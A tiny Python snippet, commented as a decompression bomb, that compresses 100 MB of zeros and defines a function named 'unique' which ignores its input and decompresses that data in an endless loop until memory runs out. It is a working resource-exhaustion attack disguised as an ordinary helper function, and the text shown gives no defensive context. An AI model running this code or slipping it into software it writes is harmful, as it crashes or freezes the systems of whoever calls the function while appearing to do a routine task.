# a decompression bomb
import zlib

BOMB = zlib.compress(bytes(10**8), 9)


def unique(numbers):
    data = b""
    while True:
        data += zlib.decompress(BOMB)
